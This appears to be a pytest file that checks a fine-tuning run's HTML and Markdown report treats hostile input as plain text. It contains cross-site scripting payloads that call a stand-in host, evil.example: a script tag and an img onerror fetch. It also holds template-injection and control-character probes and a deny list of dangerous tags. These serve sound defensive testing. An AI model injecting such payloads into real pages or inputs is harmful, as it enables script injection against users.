"""The report: one content, as Markdown and as a web page that needs nothing and trusts nobody."""

from __future__ import annotations

import base64
import re
from collections.abc import Sequence
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from finetuneflow.common.v1 import work_pb2
from finetuneflow.training.v1 import evaluation_pb2, run_pb2
from services.common.chat.encode import Mask
from services.common.chat.rows import Row
from services.trainer.report import Facts, write_report
from services.trainer.settings import all_settings
from services.trainer.totals import Totals
from tests.trainer.runs import config

HOSTILE = '</td></article><script src="https://evil.example/x.js">alert(1)</script>'
IMAGE = '<img src=x onerror="fetch(`https://evil.example`)">'
LINK = "![seen](https://evil.example/i.png) [click](https://evil.example) | `x` \u202e\x1b[31m {{ 7 * 7 }}"
VOID = {"meta", "img", "br"}


class Page(HTMLParser):
    """Reads a page: its tags with their attributes, its text, and whether every tag is closed by its own end."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: Sequence[tuple[str, str | None]]) -> None:
        """Note a tag."""
        self.tags.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        """Close the newest tag."""
        assert tag in VOID or self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        """Note text."""
        self.text += data


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder of the report of a run whose every name and answer is hostile."""
    folder = tmp_path_factory.mktemp("report")
    score = evaluation_pb2.EvalScore(
        examples=2, tokens=1234, base_loss=2.5, tuned_loss=1.5, base_perplexity=12.1825, tuned_perplexity=4.4817
    )
    sample = evaluation_pb2.SampleAnswer(
        set="generalise", prompt=HOSTILE, reference=IMAGE, base=LINK, tuned="Yes.\nNo."
    )
    evaluation = evaluation_pb2.Evaluation(generalise=score, samples=[sample])
    drop = work_pb2.Drop(reason=IMAGE, count=3)
    spec = run_pb2.TrainSpec(
        run="projects/p/runs/r",
        model_revision=HOSTILE,
        dataset=f"projects/p/datasets/{IMAGE}",
        config=config(),
        dataset_counts=[work_pb2.StageCount(**{"stage": "chunks", "in": 1005, "out": 1002, "dropped": [drop]})],
    )
    facts = Facts(
        spec=spec,
        base_name=HOSTILE,
        settings=all_settings(spec.config),
        rows=[Row("e1", "TRAIN", ())],
        mask=Mask(examples=1, kept=1, truncated=0, tokens=10, supervised_tokens=5),
        totals=Totals(losses=[3.0, 2.0, 1.0], train_seconds=4.0, num_tokens=30),
        hardware={"processor": IMAGE},
        attempt=1,
    )
    write_report(folder, facts, run_pb2.RunResult(steps=3, evaluation=evaluation, versions={"torch": "2.13.0"}))
    return folder


@pytest.fixture(scope="module")
def html(written: Path) -> str:
    """The web page."""
    return (written / "report.html").read_text(encoding="utf-8")


def test_what_strangers_wrote_stays_text(html: str) -> None:
    """No tag, attribute or template of theirs is one of the page's; what they wrote can be read as it is."""
    page = Page(html)

    assert page.open == []
    assert not [tag for tag, _ in page.tags if tag in ("script", "iframe", "object", "link", "form", "base")]
    assert not [name for _, attributes in page.tags for name in attributes if name.startswith("on")]
    assert page.text.count(HOSTILE) == 3
    assert page.text.count(IMAGE) == 4
    assert "{{ 7 * 7 }}" in page.text
    assert "\u202e" not in html
    assert "\x1b" not in html


def test_the_page_asks_for_nothing_outside(html: str) -> None:
    """Its pictures are inside, its links lead to its own sections, and its policy forbids the rest."""
    page = Page(html)
    policy = next(a["content"] for tag, a in page.tags if tag == "meta" and "http-equiv" in a)
    sources = [str(attributes["src"]) for tag, attributes in page.tags if tag == "img"]
    links = [str(attributes["href"]) for tag, attributes in page.tags if tag == "a"]
    ids = {str(attributes.get("id")) for tag, attributes in page.tags if tag == "section"}

    assert policy is not None
    assert policy.startswith("default-src 'none'; img-src data:;")
    assert len(sources) == 2
    for source in sources:
        svg = base64.b64decode(source.removeprefix("data:image/svg+xml;base64,")).decode()
        assert svg.rstrip().endswith("</svg>")
        assert not re.findall(r'(?:href|src)="(?!#)[^"]*"', svg)
    assert {link.removeprefix("#") for link in links} == ids
    assert "url(" not in html


def test_both_forms_say_the_same(written: Path, html: str) -> None:
    """The same sections in the same order, with the same figures."""
    markdown = (written / "report.md").read_text(encoding="utf-8")
    titles = re.findall(r"<h2>(.*?)</h2>", html)
    text = Page(html).text

    assert re.findall(r"^## (.*)$", markdown, re.MULTILINE) == titles
    assert "Where the data came from" in titles
    for figure in ("2.5000", "-1.0000", "1,005", "1,002", "2.13.0", "0.02"):
        assert figure in markdown
        assert figure in text
    assert "| generalise | documents that nothing was trained on | 2 (1,234 tokens) |" in markdown


def test_the_markdown_is_no_page_of_theirs_either(written: Path) -> None:
    """Rendered with HTML allowed, it has tables, the two plots, and no tag or address that a stranger wrote."""
    markdown = (written / "report.md").read_text(encoding="utf-8")
    page = Page(MarkdownIt("commonmark").enable("table").render(markdown))

    assert {tag for tag, _ in page.tags} == {
        *("h1", "h2", "p", "strong", "code", "img"),
        *("table", "thead", "tbody", "tr", "th", "td"),
    }
    assert [a["src"] for tag, a in page.tags if tag == "img"] == ["evaluation.png", "loss.png"]
    assert "![seen](https://evil.example/i.png)" in page.text


def test_a_dataset_without_counts_has_no_empty_section(written: Path) -> None:
    """A run from before they were told has none of them."""
    from services.trainer.reportparts import Report, Section, Text

    report = Report("r", Text.of("x"), [Section("empty", []), Section("full", [Text.of("y")])])

    assert [section.title for section in report.shown] == ["full"]
